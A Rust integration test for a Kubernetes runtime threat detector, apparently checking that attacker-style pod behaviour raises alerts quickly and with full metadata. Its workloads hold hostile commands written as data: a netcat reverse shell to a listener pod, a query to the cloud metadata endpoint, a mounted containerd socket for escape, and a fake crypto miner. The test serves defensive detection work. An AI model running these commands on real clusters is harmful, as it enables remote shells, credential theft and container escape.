//! What attackers do in pods, and what is told of it everywhere.

use rampart_cluster::{Agent, Finding, Mark, until};
use serde_json::Value as Json;

use crate::{
    site::Site,
    workload::{Kind, NAMESPACE, Workload},
};

/// From the deed to its arrival at the manager: what the user is promised.
const PROMISED_SECONDS: f64 = 2.0;

/// Who waits for a shell.
const LISTENER: Workload<'_> = Workload::new(Kind::StatefulSet, "listener", "nc -ll -p 4444 -e cat");

/// Ends by itself, so that its pod is not started again and again.
const REST: &str = "sleep 1000";

/// A deed, the title of the rule that tells of it, and a technique.
struct Deed {
    workload: Workload<'static>,
    rule: &'static str,
    technique: &'static str,
}

const DEEDS: [Deed; 5] = [
    Deed {
        workload: Workload::new(
            Kind::Deployment,
            "miner",
            "mkdir /opt; cp /bin/busybox /opt/xmrig; /opt/xmrig --threads 1 || sleep 1000",
        ),
        rule: "Cryptocurrency miner started",
        technique: "T1496",
    },
    Deed {
        workload: Workload::new(Kind::Deployment, "thief", "nc -w 1 169.254.169.254 80 || sleep 1000"),
        rule: "Cloud metadata service asked from a container",
        technique: "T1552.005",
    },
    Deed {
        workload: Workload {
            pod: "volumes: [{ name: socket, hostPath: { path: /run/containerd/containerd.sock, type: Socket } }],",
            container: "volumeMounts: [{ name: socket, mountPath: /run/c.sock }],",
            ..Workload::new(Kind::StatefulSet, "climber", REST)
        },
        rule: "Container runtime's socket mounted",
        technique: "T1611",
    },
    Deed {
        workload: Workload::new(
            Kind::Deployment,
            "caller",
            "until nc -w 2 $LISTENER 4444 -e /bin/sh; do sleep 0.1; done; sleep 1000",
        ),
        rule: "Shell with a socket for standard input and output",
        technique: "T1059.004",
    },
    // All of its life takes a third of a second.
    Deed {
        workload: Workload::new(
            Kind::Job,
            "mayfly",
            "mkdir /opt; cp /bin/busybox /opt/xmrig; /opt/xmrig mayfly || sleep 0.3",
        ),
        rule: "Cryptocurrency miner started",
        technique: "T1496",
    },
];

impl Deed {
    fn is_told_by(&self, finding: &Finding) -> bool {
        let pod = finding.text("orchestrator.resource.name");
        finding.rule() == self.rule && pod.starts_with(self.workload.name)
    }

    fn check(&self, finding: &Finding) {
        let name = self.workload.name;
        for (path, expected) in [
            ("orchestrator.namespace", NAMESPACE),
            ("orchestrator.resource.type", "pod"),
            ("orchestrator.resource.parent.type", self.workload.kind.name()),
            ("workload.name", name),
            ("container.name", "worker"),
            ("container.image.name", "localhost/busybox:1"),
            ("service_account", "default"),
            ("host.name", "rampart-node"),
        ] {
            assert_eq!(finding.text(path), expected, "{name}: {path} in {:#}", finding.json);
        }
        let label = format!("app.kubernetes.io/name:{name}");
        for (path, part) in [
            ("orchestrator.resource.label", label.as_str()),
            ("threat.technique.id", self.technique),
            ("container.id", ""),
            ("container.image.hash.all", "sha256:"),
            ("controls", "nist_800_53"),
            ("ancestry", "containerd-shim"),
        ] {
            let text = finding.text(path);
            assert!(
                !text.is_empty() && text.contains(part),
                "{name}: {path} has no {part} in {:#}",
                finding.json
            );
        }
    }
}

#[test]
fn what_attackers_do_in_pods_is_told_with_all_that_is_known() {
    let site = Site::get();
    let agent = site.agent();
    site.kubectl.fresh_namespace(NAMESPACE).unwrap();
    LISTENER.install(&site.kubectl);
    site.kubectl.rollout(NAMESPACE, "statefulset/listener").unwrap();
    let listener = site.kubectl.get(&format!("pod listener-0 --namespace={NAMESPACE}")).unwrap();
    let address = listener["status"]["podIP"].as_str().unwrap();
    for deed in &DEEDS {
        let (mark, counted) = (site.managers.mark(), agent.metric("wazuh_alerts_total").unwrap());
        let script = deed.workload.script.replace("$LISTENER", address);
        let workload = Workload { script: &script, ..deed.workload };
        workload.install(&site.kubectl);
        let finding = arrival(site, &mark, deed);
        let delay = finding.delay().unwrap();
        println!("{}: told {delay:.2} s after the deed: {finding:?}", workload.name);
        deed.check(&finding);
        assert!(delay < PROMISED_SECONDS, "{delay} s: {finding:?}");
        assert!(agent.metric("wazuh_alerts_total").unwrap() > counted, "{finding:?} is not counted");
        printed(&agent, &finding);
        workload.remove(&site.kubectl);
    }
}

fn arrival(site: &Site, mark: &Mark, deed: &Deed) -> Finding {
    let what = format!("the finding of {}", deed.workload.name);
    site.managers.wait_for(mark, &what, |finding| deed.is_told_by(finding)).unwrap()
}

/// The same finding is in the pod's log.
fn printed(agent: &Agent<'_>, finding: &Finding) {
    let id = finding.text("event.id");
    let line = until("the finding in the agent's log", || {
        Ok(agent
            .printed()?
            .into_iter()
            .find(|line| line.pointer("/event/id") == Some(&Json::from(id.as_str()))))
    });
    let line = line.unwrap();
    assert_eq!(line.pointer("/orchestrator/namespace"), Some(&Json::from(NAMESPACE)), "{line:#}");
}
